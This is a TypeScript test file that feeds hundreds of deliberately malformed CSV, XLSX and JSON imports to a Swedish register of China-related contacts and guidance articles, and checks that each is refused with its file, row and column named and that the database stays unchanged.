    list.push({ name: 'xlsx unknown further agreement', files: await workbook('activities', withCell(activities, 4, 'also_serves', 'no-such-agreement')), row: 4, column: 'also_serves' });
    list.push({ name: 'xlsx assessment', files: await workbook('action_plans', withCell(plans, 3, 'assessment', 'good')), row: 3, column: 'assessment' });
    return list;
  }

  it('refuses each of 1,000+ broken action plans and activities in the dry run and in apply alike, naming file, row and column, and leaves the database as it was', { timeout: 600_000 }, async () => {
    const ctx = systemCtx(shipped);
    const all = await cases();
    expect(all.length).toBeGreaterThanOrEqual(1_000);
    expect(all.filter((c) => c.files.some((f) => f.name === 'action_plans.csv')).length).toBeGreaterThan(150);
    const before = await fingerprint(ctx);
    // The unbroken tables pass both ways and write nothing (they are the register's own rows).
    const control = [{ name: 'action_plans.csv', bytes: csv(plans) }, { name: 'activities.csv', bytes: csv(activities) }];
    expect(await verdict(ctx, control, true)).toEqual({ refused: false, problems: [] });
    expect(await verdict(ctx, control, false)).toEqual({ refused: false, problems: [] });
    expect(await fingerprint(ctx)).toEqual(before);
    expect(await refuseEach(ctx, all, before)).toEqual([]);
  });
});

const csv = (sheet: string[][], delimiter = ',') => Buffer.from(stringify(sheet, { bom: true, delimiter }));
/** The sheet with the cell of `row` (as a spreadsheet numbers it) in `column` set to `value`. */
const withCell = (sheet: string[][], row: number, column: string, value: string) => sheet.map((r, i) => (i === row - 1 ? r.map((c, j) => (j === sheet[0]!.indexOf(column) ? value : c)) : r));

/** A workbook of one sheet, named after its table. */
async function workbookOf(table: TableName, sheet: ExcelJS.CellValue[][]): Promise<InputFile[]> {
  const book = new ExcelJS.Workbook();
  const ws = book.addWorksheet(table);
  for (const row of sheet) ws.addRow(row);
  return [{ name: `${table}.xlsx`, bytes: Buffer.from(await book.xlsx.writeBuffer()) }];
}

/**
 * The cases every table of one row per record gets, each in a row drawn at
 * random: a cell one character over its column's limit, in every column;
 * formulas, plain and hidden, in its text columns; values of the wrong JSON
 * type in every column.
 */
function cellCases(table: TableName, sheet: string[][], textColumns: string[], random: () => number, payloads = PAYLOADS): Broken[] {
  const list: Broken[] = [];
  const s = (rows: string[][], delimiter = ',') => [{ name: `${table}.csv`, bytes: csv(rows, delimiter) }];
  const anyRow = () => 2 + Math.floor(random() * (sheet.length - 1));
  for (const c of COLUMNS[table]) {
    const r = anyRow();
    list.push({ name: `${table} ${c.name} of ${c.max + 1} characters`, files: s(withCell(sheet, r, c.name, 'x'.repeat(c.max + 1))), row: r, column: c.name });
  }
  for (const payload of payloads) {
    for (const variant of hidden(payload)) {
      const r = anyRow();
      const column = textColumns[Math.floor(random() * textColumns.length)]!;
      list.push({ name: `formula ${JSON.stringify(variant)} in ${table} ${column}`, files: s(withCell(sheet, r, column, variant), random() < 0.3 ? ';' : ','), row: r, column });
    }
  }
  const objects = sheet.slice(1).map((r) => Object.fromEntries(sheet[0]!.flatMap((h, j) => (r[j] ? [[h, r[j]]] : []))));
  for (const c of COLUMNS[table]) {
    for (const value of [true, 12, null, {}, ['a']]) {
      const r = 2 + Math.floor(random() * objects.length);
      list.push({ name: `json ${table} ${c.name}: ${JSON.stringify(value)}`, files: [{ name: 'a.json', bytes: Buffer.from(JSON.stringify({ [table]: objects.map((o, i) => (i === r - 2 ? { ...o, [c.name]: value } : o)) })) }], row: r, column: c.name });
    }
  }
  return list;
}

/** The unbroken table (or the files given) passes the dry run and apply and writes nothing (it is the register's own rows); then each case is refused. */
async function expectEachRefused(table: TableName, sheet: string[][], all: Broken[], control: InputFile[] = [{ name: `${table}.csv`, bytes: csv(sheet) }]) {
  const ctx = systemCtx(shipped);
  const before = await fingerprint(ctx);
  expect(await verdict(ctx, control, true)).toEqual({ refused: false, problems: [] });
  expect(await verdict(ctx, control, false)).toEqual({ refused: false, problems: [] });
  expect(await fingerprint(ctx)).toEqual(before);
  expect(await refuseEach(ctx, all, before)).toEqual([]);
}

describe('a corpus of broken contact surfaces', () => {
  let surfaces: string[][];
  /** More public Swedish bodies than a surface may link. */
  let manyBodies: string[];

  beforeAll(async () => {
    // The shipped register has none: three public ones of different kinds, linking bodies and places and citing sources.
    const ctx = systemCtx(shipped);
    const [ortsband] = await queryRows<{ id: number }>(ctx.db, sql`select id from organisations where slug = 'ortsband'`);
    const made: CreateContactSurfaceInput[] = [
      { kind: 'confucius', title: 'Konfuciusklassrum', description: 'Lärare från Zhejiang.', date: '2012', endDate: '2019-06', actors: ['kalix'], places: ['zhejiang'], sources: ['nkk2022'] },
      { kind: 'investment', title: 'Förvärv', titleEn: 'Acquisition', date: '2018-03', actors: ['goteborg', 'linkoping'], places: ['guangzhou', 'huzhou'] },
      { kind: 'influence', title: 'Påtryckning', date: '2021', actors: ['lulea'], sources: ['nkk2022'] },
    ];
    for (const input of made) await createContactSurface({ ctx, organisationId: ortsband!.id, input: { ...input, visibility: 'public' } });
    surfaces = await exportTable(shipped.anonymous, 'contact_surfaces');
    manyBodies = (await queryRows<{ slug: string }>(ctx.db, sql`select slug from actors where visibility = 'public' order by slug limit 21`)).map((r) => r.slug);
  });

  async function cases(): Promise<Broken[]> {
    const random = rng(21);
    const list: Broken[] = [];
    const s = (sheet: string[][], delimiter = ',') => [{ name: 'contact_surfaces.csv', bytes: csv(sheet, delimiter) }];
    const rows = surfaces.length;
    for (let r = 2; r <= rows; r++) {
      for (const kind of ['visit', 'CONFUCIUS', 'konfucius', 'institute', 'x']) list.push({ name: `kind ${kind}`, files: s(withCell(surfaces, r, 'kind', kind)), row: r, column: 'kind' });
      for (const body of ['9999', '9999 Atlantis kommun', 'Atlantis kommun', 'no-such-body', '2514 Luleå kommun', 'kalix | Kalix kommun', manyBodies.join(' | ')]) {
        list.push({ name: `actors ${body.slice(0, 40)}`, files: s(withCell(surfaces, r, 'actors', body)), row: r, column: 'actors' });
      }
      for (const place of ['Atlantis > Nowhere', 'Gansu > Nowhere', 'zhejiang | Zhejiang', 'Zhejiang > > Huzhou']) list.push({ name: `places ${place}`, files: s(withCell(surfaces, r, 'places', place)), row: r, column: 'places' });
      for (const source of ['no-such-source', 'nkk2022 | nope: s. 3', 'Not A Slug']) list.push({ name: `sources ${source}`, files: s(withCell(surfaces, r, 'sources', source)), row: r, column: 'sources' });
      for (const date of DATES) for (const column of ['date', 'end_date']) list.push({ name: `${column} ${date}`, files: s(withCell(surfaces, r, column, date)), row: r, column });
      list.push({ name: 'ends before it begins', files: s(withCell(withCell(surfaces, r, 'date', '2020'), r, 'end_date', '2010')), row: r, column: 'end_date' });
      for (const visibility of ['open', 'Public', 'secret', 'offentlig']) list.push({ name: `visibility ${visibility}`, files: s(withCell(surfaces, r, 'visibility', visibility)), row: r, column: 'visibility' });
      list.push({ name: 'English description without the Swedish', files: s(withCell(withCell(surfaces, r, 'description', ''), r, 'description_en', 'Teachers')), row: r, column: 'description_en' });
      list.push({ name: 'no title', files: s(withCell(surfaces, r, 'contact_surface', '')), row: r, column: 'contact_surface' });
      list.push({ name: 'no kind', files: s(withCell(surfaces, r, 'kind', '')), row: r, column: 'kind' });
    }
    list.push(...cellCases('contact_surfaces', surfaces, ['contact_surface', 'title_en', 'description', 'description_en', 'actors', 'places', 'sources'], random));
    // One link's name over what the form takes, in a cell within its column's limit.
    list.push({ name: 'an actor of 301 characters', files: s(withCell(surfaces, 2, 'actors', `kalix | ${'x'.repeat(301)}`)), row: 2, column: 'actors' });
    // XLSX: a formula cell, impossible dates, an unknown kind.
    const workbook = (sheet: ExcelJS.CellValue[][]) => workbookOf('contact_surfaces', sheet);
    const at = (column: string) => surfaces[0]!.indexOf(column);
    list.push({ name: 'xlsx formula cell', files: await workbook(surfaces.map((r, i) => (i === 2 ? r.map((c, j) => (j === at('description') ? { formula: '1+1', result: 2 } : c)) : r))), row: 3, column: 'description' });
    for (const date of ['2019-02-29', '0000', '2019-21']) list.push({ name: `xlsx surface date ${date}`, files: await workbook(withCell(surfaces, 2, 'date', date)), row: 2, column: 'date' });
    list.push({ name: 'xlsx kind', files: await workbook(withCell(surfaces, 4, 'kind', 'visit')), row: 4, column: 'kind' });
    return list;
  }

  it('refuses each of 300+ broken contact surfaces (unknown kinds, bodies, places and sources, bad dates and visibility, too long and formula cells, wrong JSON types) in the dry run and in apply alike, naming file, row and column, and leaves the database as it was', { timeout: 600_000 }, async () => {
    expect(surfaces.length).toBe(4);
    const all = await cases();
    expect(all.length).toBeGreaterThanOrEqual(300);
    await expectEachRefused('contact_surfaces', surfaces, all);
  });
});

describe('a corpus of broken guidance articles', () => {
  let articles: string[][];

  beforeAll(async () => {
    // The three shipped articles, one of them kept by a county board (named as the files name it: by organisation) and one with topics.
    const ctx = systemCtx(shipped);
    await addOrganisation({ ctx, input: { slug: 'lst-korpus', name: 'Länsstyrelsen i Korpuslän' } });
    await addOrganisation({ ctx, input: { slug: 'lst-korpus-2', name: 'Länsstyrelsen i Korpuslän' } });
    await ctx.db.execute(sql`update knowledge_articles set owner_organisation_id = (select id from organisations where slug = 'lst-korpus') where slug = 'folj-upp-avtalen'`);
    articles = await exportTable(shipped.anonymous, 'knowledge_articles');
  });

  async function cases(): Promise<Broken[]> {
    const random = rng(39);
    const list: Broken[] = [];
    const s = (sheet: string[][], delimiter = ',') => [{ name: 'knowledge_articles.csv', bytes: csv(sheet, delimiter) }];
    const rows = articles.length;
    for (let r = 2; r <= rows; r++) {
      for (const column of ['article', 'title', 'title_en', 'text', 'text_en', 'review_on']) list.push({ name: `no ${column}`, files: s(withCell(articles, r, column, '')), row: r, column });
      list.push({ name: 'a title of blanks', files: s(withCell(articles, r, 'title', '   ')), row: r, column: 'title' });
      for (const organisation of ['lst-atlantis', 'Länsstyrelsen i Atlantis', 'LST-KORPUS', 'Länsstyrelsen i Korpuslän']) {
        list.push({ name: `owner_organisation ${organisation}`, files: s(withCell(articles, r, 'owner_organisation', organisation)), row: r, column: 'owner_organisation' });
      }
      // The calendar's forms that are not one day (a month, a year, a span) are refused too: a review is due on a day.
      for (const day of new Set(['2027-02-30', '2027-13-01', '2027-06', '2027', '30/06/2027', '2027-6-30', 'nästa år', '2027-06-30T10:00', ...DATES])) {
        list.push({ name: `review_on ${day}`, files: s(withCell(articles, r, 'review_on', day)), row: r, column: 'review_on' });
      }
      for (const slug of ['Infor-Beslut', 'inför-beslut', 'infor beslut', '-infor', 'infor---beslut', 'ny', 'lardomar']) list.push({ name: `article ${slug}`, files: s(withCell(articles, r, 'article', slug)), row: r, column: 'article' });
      for (const topic of ['delegation', 'Decision_basis', 'decision_basis | warnings']) list.push({ name: `topics ${topic}`, files: s(withCell(articles, r, 'topics', topic)), row: r, column: 'topics' });
      // The same address twice: the second row is named.
      list.push({ name: 'a duplicate address', files: s([...articles, articles[r - 1]!]), row: rows + 1, column: 'article' });
      list.push({ name: 'a duplicate address, another text', files: s([...articles, articles[r - 1]!.map((c, j) => (articles[0]![j] === 'text' ? 'En annan text.' : c))]), row: rows + 1, column: 'article' });
    }
    list.push(...cellCases('knowledge_articles', articles, ['title', 'title_en', 'text', 'text_en', 'source_note', 'owner_organisation'], random, PAYLOADS.slice(0, 6)));
    // XLSX: a formula cell, an impossible review day, an unknown organisation.
    const workbook = (sheet: ExcelJS.CellValue[][]) => workbookOf('knowledge_articles', sheet);
    const at = (column: string) => articles[0]!.indexOf(column);
    list.push({ name: 'xlsx formula cell', files: await workbook(articles.map((r, i) => (i === 2 ? r.map((c, j) => (j === at('text_en') ? { formula: '1+1', result: 2 } : c)) : r))), row: 3, column: 'text_en' });
    list.push({ name: 'xlsx review day', files: await workbook(withCell(articles, 2, 'review_on', '2027-02-29')), row: 2, column: 'review_on' });
    list.push({ name: 'xlsx organisation', files: await workbook(withCell(articles, 4, 'owner_organisation', 'lst-atlantis')), row: 4, column: 'owner_organisation' });
    return list;
  }

  it('refuses each of 200+ broken guidance articles (empty titles and texts, unknown or ambiguous organisations, malformed review days, bad or reserved addresses, unknown topics, an address twice, too long and formula cells, wrong JSON types) in the dry run and in apply alike, naming file, row and column, and leaves the database as it was', { timeout: 600_000 }, async () => {
    expect(articles.length).toBe(4);
    const all = await cases();
    expect(all.length).toBeGreaterThanOrEqual(200);
    await expectEachRefused('knowledge_articles', articles, all);
  });
});

describe('a corpus of broken earlier versions of guidance articles', () => {
  let articles: string[][];
  let versions: string[][];

  beforeAll(async () => {
    // A shipped article changed twice through the form: versions 1 and 2 in the files, the article at 3.
    const ctx = systemCtx(shipped);
    const slug = 'samordna-med-andra';
    for (const expectedVersion of [1, 2]) {
      const a = await getArticle(ctx, slug);
      await changeArticle({ ctx, slug, input: { titleSv: a.titleSv, titleEn: a.titleEn, bodySv: `${a.bodySv}\n\nTillägg ${expectedVersion}.`, bodyEn: `${a.bodyEn}\n\nAddition ${expectedVersion}.`, sourceNote: a.sourceNote, reviewOn: a.reviewOn, topics: a.topics, expectedVersion } });
    }
    articles = await exportTable(shipped.anonymous, 'knowledge_articles');
    versions = await exportTable(shipped.anonymous, 'knowledge_article_versions');
  });

  async function cases(): Promise<Broken[]> {
    const random = rng(50);
    const list: Broken[] = [];
    const articleFile = { name: 'knowledge_articles.csv', bytes: csv(articles) };
    // Each with the articles' table, so that the versions refer to articles of the import.
    const s = (sheet: string[][], delimiter = ',') => [articleFile, { name: 'knowledge_article_versions.csv', bytes: csv(sheet, delimiter) }];
    const at = (column: string) => versions[0]!.indexOf(column);
    for (let r = 2; r <= versions.length; r++) {
      for (const column of ['version_of', 'version', 'title', 'title_en', 'text', 'text_en', 'review_on', 'replaced_at']) list.push({ name: `row ${r}: no ${column}`, files: s(withCell(versions, r, column, '')), row: r, column });
      // An article the import does not have: unknown, or in the register but without its row in the files.
      for (const slug of ['ingen-sadan', 'Samordna-Med-Andra', 'gammal-vagledning']) list.push({ name: `row ${r}: version_of ${slug}`, files: s(withCell(versions, r, 'version_of', slug)), row: r, column: 'version_of' });
      list.push({ name: `row ${r}: without the articles' table`, files: [{ name: 'knowledge_article_versions.csv', bytes: csv(versions) }], row: r, column: 'version_of' });
      for (const n of ['0', '-1', '1.5', '1,5', 'ett', '2a', '1e3']) list.push({ name: `row ${r}: version ${n}`, files: s(withCell(versions, r, 'version', n)), row: r, column: 'version' });
      for (const day of ['2027-02-30', '2027-13-01', '2027-06', '30/06/2027', ...DATES]) list.push({ name: `row ${r}: review_on ${day}`, files: s(withCell(versions, r, 'review_on', day)), row: r, column: 'review_on' });
      for (const instant of ['2026-13-01T00:00:00.000Z', '2026-02-30T10:00:00Z', '2026-11-02', '2026-11-02T25:00:00Z', '2026-11-02T10:00:00', '2026-11-02 10:00:00Z', 'igår', '2999-01-01T00:00:00.000Z', '2026-11-02T10:00:00+25:00']) {
        list.push({ name: `row ${r}: replaced_at ${instant}`, files: s(withCell(versions, r, 'replaced_at', instant)), row: r, column: 'replaced_at' });
      }
      list.push({ name: `row ${r}: owner_organisation unknown`, files: s(withCell(versions, r, 'owner_organisation', 'lst-atlantis')), row: r, column: 'owner_organisation' });
      // History is never rewritten: a version the register has, said otherwise.
      for (const [column, value] of [['text', 'En annan text.'], ['title_en', 'Another title'], ['review_on', '2020-01-01'], ['source_note', 'Någon annanstans'], ['replaced_at', '2001-01-01T00:00:00.000Z']] as const) {
        list.push({ name: `row ${r}: a rewritten ${column}`, files: s(withCell(versions, r, column, value)), row: r, column });
      }
    }
    // Numbers: twice, a gap, not from 1, and replaced in the wrong order; the later row is named.
    const last = versions.length;
    list.push({ name: 'a version twice', files: s([...versions, versions[last - 1]!]), row: last + 1, column: 'version' });
    list.push({ name: 'a gap', files: s(withCell(versions, last, 'version', '3')), row: last, column: 'version' });
    list.push({ name: 'not from 1', files: s(withCell(withCell(versions, 2, 'version', '2'), 3, 'version', '3')), row: 2, column: 'version' });
    list.push({ name: 'replaced before the version before', files: s(withCell(versions, 3, 'replaced_at', '2000-01-01T00:00:00.000Z')), row: 3, column: 'replaced_at' });
    // Two histories: the register's article at version 3 says one thing, the file's version 3 another.
    const third = versions[last - 1]!.map((c, j) => (j === at('version') ? '3' : j === at('text') ? 'En tredje text.' : j === at('replaced_at') ? new Date().toISOString() : c));
    list.push({ name: 'a history that differs from the register', files: s([...versions, third]), row: last + 1, column: 'text' });
    for (const c of cellCases('knowledge_article_versions', versions, ['title', 'title_en', 'text', 'text_en', 'source_note', 'owner_organisation'], random, PAYLOADS.slice(0, 6))) list.push({ ...c, files: [articleFile, ...c.files] });
    list.push({ name: 'xlsx replaced_at', files: [articleFile, ...(await workbookOf('knowledge_article_versions', withCell(versions, 2, 'replaced_at', '2026-02-30T10:00:00Z')))], row: 2, column: 'replaced_at' });
    return list;
  }

  it('refuses each of 200+ broken versions (unknown articles, gaps and duplicates in the numbers, bad days and instants, rewritten history, too long and formula cells, wrong JSON types) in the dry run and in apply alike, naming file, row and column, and leaves the database as it was', { timeout: 600_000 }, async () => {
    expect(versions.length).toBe(3);
    const all = await cases();
    expect(all.length).toBeGreaterThanOrEqual(200);
    // The unbroken files are both tables: the versions name the articles.
    await expectEachRefused('knowledge_article_versions', versions, all, [{ name: 'knowledge_articles.csv', bytes: csv(articles) }, { name: 'knowledge_article_versions.csv', bytes: csv(versions) }]);
  });
});
